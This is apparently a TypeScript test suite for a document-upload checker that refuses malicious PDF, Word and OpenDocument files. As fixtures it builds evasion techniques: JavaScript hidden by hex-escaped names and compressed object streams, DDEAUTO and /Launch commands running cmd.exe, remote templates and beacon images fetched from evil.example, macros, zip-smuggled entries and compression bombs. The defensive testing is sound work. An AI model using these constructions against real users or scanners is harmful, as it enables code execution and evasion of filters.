import { spawnSync } from 'node:child_process';
import { rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { checkDocument, sniffDocumentType } from '../../src/registry';
import { docx, docxBody, DOCX_TYPES, objectStream, odt, odtContent, odtManifest, pdf, pdfStream, plainPdf, zip } from '../helpers/documents';
import { cli, RULES_TEXT, tmpDir, writeTemp } from '../helpers/world';

/** Refused with one line that names the file and says why. */
function refused(name: string, content: Buffer, why: RegExp): void {
  let message = '';
  try {
    checkDocument(name, content);
  } catch (err) {
    message = (err as Error).message;
  }
  expect(message).toMatch(why);
  expect(message.startsWith(`${name}: `)).toBe(true);
  expect(message).not.toMatch(/\n/);
}

const SCRIPT = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';

describe('PDF: active content is found by parsing, not by a byte search', () => {
  it('a name written with hex escapes (/J#61vaScript) is the same name and is refused', () => {
    refused('rules.pdf', plainPdf(' /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'), /^rules\.pdf: a PDF with \/JavaScript \(scripts are refused\)$/);
    refused('rules.pdf', plainPdf(' /Names << /#45mbedded#46iles 9 0 R >>'), /a PDF with \/EmbeddedFiles \(attachments are refused\)/);
    refused('rules.pdf', plainPdf(' /A#41 << /O 9 0 R >>'), /a PDF with \/AA \(automatic actions are refused\)/);
  });

  it('a script inside a compressed object stream (FlateDecode /ObjStm) is refused', () => {
    const doc = pdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>',
      '<< /Type /Pages /Kids [] /Count 0 >>',
      objectStream(['<< /Producer (x) >>', SCRIPT], 5),
    ]);
    // Nothing of the script is visible in the file's bytes.
    expect(doc.includes('JavaScript')).toBe(false);
    refused('rules.pdf', doc, /^rules\.pdf: a PDF with \/JavaScript in a compressed object stream \(scripts are refused\)$/);
  });

  it('an object stream cannot hide its script behind hex-escaped names, a double filter, a string with >> in its dictionary, or an unknown filter', () => {
    const escaped = pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>', pdfStream('/Type /Obj#53tm /N 1 /First 4', '5 0 << /S /J#61vaScript /JS (x) >>')]);
    refused('a.pdf', escaped, /\/JavaScript in a compressed object stream/);
    const twice = deflateSync(deflateSync(Buffer.from('5 0 ' + SCRIPT)));
    const double = pdf(['<< /Type /Catalog /Pages 2 0 R >>', Buffer.concat([Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length ${twice.length} >>\nstream\n`, 'latin1'), twice, Buffer.from('\nendstream', 'latin1')])]);
    refused('b.pdf', double, /\/JavaScript in a compressed object stream/);
    const confusing = pdf(['<< /Type /Catalog /Pages 2 0 R >>', objectStream([SCRIPT], 5, '/Junk (>> obj <<)')]);
    refused('c.pdf', confusing, /\/JavaScript in a compressed object stream/);
    const hex = Buffer.from('5 0 ' + SCRIPT).toString('hex') + '>';
    refused('d.pdf', pdf(['<< /Type /Catalog /Pages 2 0 R >>', pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', hex, false)]), /an object stream with a filter that cannot be checked/);
    refused('e.pdf', pdf(['<< /Type /Catalog /Pages 2 0 R >>', objectStream([SCRIPT], 5, '/DecodeParms << /Predictor 12 /Columns 4 >>')]), /decode parameters that cannot be checked/);
  });

  it('an object stream that inflates past 50 MiB is refused as a compression bomb, without inflating it all', () => {
    const bomb = pdfStream('/Type /ObjStm /N 1 /First 4', Buffer.alloc(60 * 1024 * 1024, 0x20));
    expect(bomb.length).toBeLessThan(200 * 1024);
    refused('bomb.pdf', pdf(['<< /Type /Catalog /Pages 2 0 R >>', bomb]), /inflates past 50 MiB in all \(a compression bomb\)/);
  });

  it('launch actions, rich media, XFA forms and encrypted PDFs are refused', () => {
    refused('a.pdf', plainPdf(' /OpenAction << /S /Launch /F (cmd.exe) >>'), /\/Launch \(launch actions are refused\)/);
    refused('b.pdf', plainPdf(' /AcroForm << /XFA 9 0 R >>'), /\/XFA/);
    refused('c.pdf', pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Annot /Subtype /RichMedia >>']), /\/RichMedia/);
    refused('e.pdf', pdf(['<< /Type /Catalog /Pages 2 0 R >>'], '/Root 1 0 R /Encrypt << /Filter /Standard /V 2 >>'), /\/Encrypt \(encrypted contents/);
  });

  it('a plain PDF passes: deflated content, an object stream without scripts, an /OpenAction that is only a destination, a /JSFont', () => {
    expect(checkDocument('rules.pdf', plainPdf(' /OpenAction [3 0 R /Fit]')).mediaType).toBe('application/pdf');
    const compressed = pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>', objectStream(['<< /Producer (LibreOffice) >>', '<< /Type /Font /Subtype /Type1 /BaseFont /JSFont >>'], 5)]);
    expect(checkDocument('rules.pdf', compressed).mediaType).toBe('application/pdf');
  });
});

describe('Word (DOCX): parts, content types and relationships are read from the zip', () => {
  const SETTINGS_RELS = (target: string, mode = 'External') =>
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="${mode}"/></Relationships>`;

  it('a remote template (an external relationship in word/_rels/settings.xml.rels) is refused', () => {
    const doc = docx({
      'word/settings.xml': '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
      'word/_rels/settings.xml.rels': SETTINGS_RELS('http://evil.example/template.dotm'),
    });
    refused('rules.docx', doc, /^rules\.docx: a Word document with an external attachedTemplate \(http:\/\/evil\.example\/template\.dotm\), e\.g\. a remote template$/);
    // Written with a character reference, it is still External to Word.
    refused('rules.docx', docx({ 'word/_rels/settings.xml.rels': SETTINGS_RELS('\\\\evil.example\\share\\t.dotm', '&#69;xternal') }), /an external attachedTemplate/);
  });

  it('macros (vbaProject.bin), ActiveX, embedded OLE objects and DDE fields are refused', () => {
    refused('rules.docx', docx({ 'word/vbaProject.bin': Buffer.from('VBA') }), /^rules\.docx: a Word document with macros \(vbaProject\)$/);
    refused('rules.docx', docx({ 'word/activeX/activeX1.xml': '<ax/>' }), /ActiveX controls/);
    refused('rules.docx', docx({ 'word/embeddings/oleObject1.bin': 'x' }), /embedded objects/);
    refused('rules.docx', docx({ 'word/document.xml': docxBody('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package"/></w:object></w:r></w:p>') }), /embedded objects \(object in word\/document\.xml\)/);
    // A DDEAUTO field split across runs, as Word stores an edited field code.
    refused('rules.docx', docx({ 'word/document.xml': docxBody('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>') }), /a DDEAUTO field/);
  });

  it('a part or content type outside the allow-list is refused, even under an innocent name', () => {
    refused('rules.docx', docx({ 'word/evil.html': '<script>alert(1)</script>' }), /an unexpected part word\/evil\.html/);
    refused('rules.docx', docx({ '[Content_Types].xml': DOCX_TYPES.replace('document.main+xml', 'document.macroEnabled.main+xml') }), /a part of type application\/vnd\.openxmlformats-officedocument\.wordprocessingml\.document\.macroEnabled\.main\+xml/);
  });

  it('a zip that is not what its directory says is refused: duplicate names, overlapping or hidden entries, a bomb', () => {
    const good = docx();
    refused('dup.docx', zip([{ name: '[Content_Types].xml', data: DOCX_TYPES }, { name: 'word/document.xml', data: docxBody('') }, { name: 'WORD/document.xml', data: 'x' }]), /a zip that cannot be read \(WORD\/document\.xml twice\)/);
    // Bytes the central directory does not account for, where a streaming reader would find an entry.
    const hidden = zip([{ name: 'word/vbaProject.bin', data: 'VBA' }]);
    const cdAt = good.readUInt32LE(good.length - 6);
    const smuggled = Buffer.concat([hidden.subarray(0, hidden.readUInt32LE(hidden.length - 6)), good]);
    smuggled.writeUInt32LE(cdAt + (smuggled.length - good.length), smuggled.length - 6);
    for (let p = smuggled.readUInt32LE(smuggled.length - 6); smuggled.readUInt32LE(p) === 0x02014b50; p += 46 + smuggled.readUInt16LE(p + 28)) smuggled.writeUInt32LE(smuggled.readUInt32LE(p + 42) + (smuggled.length - good.length), p + 42);
    refused('hidden.docx', smuggled, /bytes before .* that no entry accounts for/);
    const zeros = Buffer.alloc(60 * 1024 * 1024);
    refused('bomb.docx', zip([{ name: '[Content_Types].xml', data: DOCX_TYPES }, { name: 'word/document.xml', data: zeros }]), /inflates past 50 MiB \(a compression bomb\)/);
    refused('liar.docx', zip([{ name: '[Content_Types].xml', data: DOCX_TYPES }, { name: 'word/document.xml', data: zeros, claimSize: 1000 }]), /inflates past its declared size/);
    expect(deflateRawSync(zeros).length).toBeLessThan(200 * 1024);
  });

  it('a plain Word document passes: text, a picture, settings and a hyperlink', () => {
    expect(checkDocument('rules.docx', docx()).mediaType).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
  });
});

describe('OpenDocument text (ODT): parts and markup are read from the zip', () => {
  it('a macro under Scripts/ or Basic/ is refused', () => {
    const scripts = odt({ 'META-INF/manifest.xml': odtManifest('<manifest:file-entry manifest:full-path="Scripts/python/evil.py" manifest:media-type=""/>') }, [{ name: 'Scripts/python/evil.py', data: 'import os\nos.system("calc")\n' }]);
    refused('rules.odt', scripts, /^rules\.odt: an OpenDocument text with macros \(Basic\/ or Scripts\/\)$/);
    const basic = odt({}, [
      { name: 'Basic/Standard/Module1.xml', data: '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>' },
      { name: 'Basic/script-lc.xml', data: '<library:libraries/>' },
    ]);
    refused('rules.odt', basic, /with macros \(Basic\/ or Scripts\/\)/);
  });

  it('an event handler calling a macro is refused, whatever prefix its namespace is given', () => {
    const listener = (p: string) =>
      `<${p}:event-listeners><${p}:event-listener xmlns:${p}="urn:oasis:names:tc:opendocument:xmlns:script:1.0" ${p}:language="ooo:script" ${p}:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></${p}:event-listeners>`;
    refused('rules.odt', odt({ 'content.xml': odtContent('<text:p>x</text:p>', `<office:scripts><office:event-listeners>${listener('script').replace(/^<script:event-listeners>|<\/script:event-listeners>$/g, '')}</office:event-listeners></office:scripts>`) }), /event handlers \(event-listener in content\.xml\)/);
    for (const prefix of ['s', '腳本']) refused('rules.odt', odt({ 'content.xml': odtContent('<text:p>x</text:p>', `<office:scripts>${listener(prefix)}</office:scripts>`) }), /event handlers/);
  });

  it('a linked image fetched from elsewhere, and a javascript: link, are refused', () => {
    refused('rules.odt', odt({ 'content.xml': odtContent('<text:p><draw:frame><draw:image xlink:href="http://evil.example/beacon.png"/></draw:frame></text:p>') }), /an external reference \(http:\/\/evil\.example\/beacon\.png in image\)/);
    refused('rules.odt', odt({ 'content.xml': odtContent('<text:p><text:a xlink:href="javascript:alert(1)">x</text:a></text:p>') }), /a link that runs or opens something/);
  });

  it('an ODT whose mimetype is not its first, stored entry is not an ODT', () => {
    const late = zip([{ name: 'content.xml', data: odtContent('') }, { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', store: true }]);
    expect(sniffDocumentType(late)).toBeNull();
    refused('rules.odt', late, /not a PDF, ODT, DOCX or UTF-8 text document/);
  });

  it('a plain OpenDocument text passes: text, a hyperlink, an empty office:scripts, LibreOffice configuration folder', () => {
    expect(checkDocument('rules.odt', odt()).mediaType).toBe('application/vnd.oasis.opendocument.text');
    expect(checkDocument('rules.txt', Buffer.from(RULES_TEXT)).mediaType).toBe('text/plain; charset=utf-8');
  });
});

describe('nia-link rules add refuses the attack documents with one line', () => {
  let dir: string;
  beforeAll(() => {
    dir = tmpDir();
    expect(cli(dir, ['init']).code).toBe(0);
    expect(cli(dir, ['agency', 'add', '--code', 'A003', '--name', '內政部警政署']).code).toBe(0);
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('a PDF with its script in an object stream, a DOCX with a remote template and an ODT with Scripts/ are refused; nothing is stored', () => {
    const files = {
      'objstm.pdf': pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>', objectStream([SCRIPT], 5)]),
      'template.docx': docx({ 'word/_rels/settings.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>` }),
      'macro.odt': odt({}, [{ name: 'Scripts/python/evil.py', data: 'x' }]),
    };
    for (const [name, content] of Object.entries(files)) {
      const r = cli(dir, ['rules', 'add', '--agency', 'A003', '--file', writeTemp(dir, name, content)]);
      expect({ name, code: r.code }).toEqual({ name, code: 1 });
      expect(r.stderr.trim().split('\n')).toEqual([expect.stringMatching(new RegExp(`^nia-link: .*${name.replace('.', '\\.')}: an? `))]);
    }
    expect(JSON.parse(cli(dir, ['rules', 'list', '--json']).stdout)).toEqual([]);
    expect(cli(dir, ['rules', 'add', '--agency', 'A003', '--file', writeTemp(dir, 'rules.odt', odt())]).code).toBe(0);
  });

  it('the zips written here are zips to Info-ZIP as well', () => {
    const file = path.join(dir, 'check.docx');
    writeFileSync(file, docx());
    const r = spawnSync('unzip', ['-tq', file], { encoding: 'utf8' });
    if (r.error) return; // unzip not installed: the reader's own checks above still stand
    expect(r.stdout).toMatch(/No errors detected/);
  });
});
